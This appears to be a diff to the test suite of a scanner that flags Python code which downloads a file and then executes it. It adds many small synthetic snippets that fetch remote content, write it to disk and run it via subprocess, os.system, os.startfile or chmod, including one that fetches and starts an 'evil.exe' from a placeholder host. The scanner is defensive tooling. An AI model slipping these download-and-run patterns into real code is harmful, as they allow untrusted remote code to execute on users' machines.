@@ -187,6 +187,19 @@ describe('a saved download run as a program', () => {
     return PARASAIL.replace('            untar(tarball)\n', `            ${replacement}\n`);
   };
 
+  /** parasail's setup.py with its `urlretrieve(url, tarball)` line replaced by another way of saving the download: an edit. */
+  const parasailSavedBy = (lines: string[]): string => {
+    const original = '                    name,hdrs = urlretrieve(url, tarball)\n';
+    expect(PARASAIL).toContain(original);
+    return PARASAIL.replace(original, lines.map((l) => `                    ${l}\n`).join(''));
+  };
+  const SAVES = [
+    ['pathlib.Path(tarball).write_bytes', ['pathlib.Path(tarball).write_bytes(requests.get(url).content)']],
+    ['wget.download with out=', ['wget.download(url, out=tarball)']],
+    ['wget.download with a positional path', ['name = wget.download(url, tarball)']],
+    ['a streamed requests.get written chunk by chunk', ['r = requests.get(url, stream=True)', "with open(tarball, 'wb') as f:", '    for chunk in r.iter_content(chunk_size=8192):', '        f.write(chunk)']],
+  ] as const;
+
   it('the real parasail setup.py: a downloaded source archive unpacked and built is not a finding', () => {
     expect(readImportCode(PARASAIL).flags).toEqual([]);
   });
@@ -202,6 +215,16 @@ describe('a saved download run as a program', () => {
     expect(readImportCode(parasailEdit(line)).flags).toEqual(flags);
   });
 
+  it.each(SAVES)('parasail, edited: the tarball saved by %s and unpacked: clean', (_name, lines) => {
+    expect(readImportCode(parasailSavedBy([...lines])).flags).toEqual([]);
+  });
+
+  it.each(SAVES)('parasail, edited: the tarball saved by %s and handed to a shell: download-and-run', (_name, lines) => {
+    const text = parasailSavedBy([...lines]);
+    expect(text).toContain('            untar(tarball)\n');
+    expect(readImportCode(text.replace('            untar(tarball)\n', '            subprocess.call(["sh", tarball])\n')).flags).toEqual(['download-and-run']);
+  });
+
   // Synthetic, each the smallest form of one way a download reaches a process.
   it.each([
     ['urlretrieve to a relative name, run as ./name', 'import urllib.request, subprocess\nurllib.request.urlretrieve(url, "a")\nsubprocess.call(["./a"])\n'],
@@ -215,6 +238,14 @@ describe('a saved download run as a program', () => {
     ['os.execv of the saved path', 'urlretrieve(u, target)\nos.execv(target, [target])\n'],
     ['a process function imported by name', 'from subprocess import call\nurlretrieve(u, "a")\ncall(["./a"])\n'],
     ['os.system imported under another name', 'from os import (\n    path,\n    system as _s,\n)\nurlretrieve(u, "a")\n_s("./a")\n'],
+    ['a name holding a joined Path, written with write_bytes and started', 'r = requests.get(u)\ntarget = Path(tempfile.gettempdir()) / "x.exe"\ntarget.write_bytes(r.content)\nsubprocess.Popen([str(target)])\n'],
+    ['a joined Path written in place, run by its file name', '(Path.home() / "run.exe").write_bytes(requests.get(u).content)\nsubprocess.call("run.exe")\n'],
+    ['Path.write_text of a download, then Path.chmod', 't = pathlib.Path("/tmp/a")\nt.write_text(requests.get(u).text)\nt.chmod(t.stat().st_mode | stat.S_IEXEC)\n'],
+    ['wget.download named by its URL, started by os.startfile', 'wget.download("https://example.invalid/evil.exe")\nos.startfile("evil.exe")\n'],
+    ['the path wget.download returns, given to the interpreter', 'name = wget.download(u)\nsubprocess.run([sys.executable, name])\n'],
+    ['a session stream\'s iter_content written to a handle opened before the loop', 'r = session.get(u, stream=True)\nwith open(dst, "wb") as f:\n    for c in r.iter_content(1024):\n        f.write(c)\nsubprocess.call(dst)\n'],
+    ['urllib3 PoolManager data written and run', 'http = urllib3.PoolManager()\nresp = http.request("GET", u)\nwith open("/tmp/u", "wb") as f:\n    f.write(resp.data)\nsubprocess.call("/tmp/u")\n'],
+    ['http.client getresponse data written and run from a shell line', 'c = http.client.HTTPSConnection(h)\nc.request("GET", "/p")\ndata = c.getresponse().read()\nopen("/tmp/h", "wb").write(data)\nos.system("chmod +x /tmp/h && /tmp/h")\n'],
   ])('%s: download-and-run', (_name, text) => {
     expect(readImportCode(text).flags).toEqual(['download-and-run']);
   });
@@ -227,6 +258,10 @@ describe('a saved download run as a program', () => {
     ['a download made read-only', 'urlretrieve(u, "a")\nos.chmod("a", 0o644)\n'],
     ['another file run', 'urlretrieve(u, "data.json")\nsubprocess.call(["./build.sh"])\n'],
     ['a function of its own named call', 'def call(x):\n    pass\nurlretrieve(u, "a")\ncall(["./a"])\n'],
+    ['a Path written with local text, then run', 't = Path("/tmp/x.sh")\nt.write_text("echo hi")\nsubprocess.call(["sh", str(t)])\nrequests.get(u)\n'],
+    ['a downloaded Path made read-only by Path.chmod', 't = Path("/tmp/a")\nt.write_bytes(requests.get(u).content)\nt.chmod(0o644)\n'],
+    ['a download saved beside a directory\'s script that is run', '(d / "data.json").write_text(requests.get(u).text)\nsubprocess.call([str(d / "run.sh")])\n'],
+    ['wget.download of a data file, another script run', 'wget.download(u, out="data.csv")\nsubprocess.call(["python", "process.py"])\n'],
   ])('%s: clean', (_name, text) => {
     expect(readImportCode(text).flags).toEqual([]);
   });
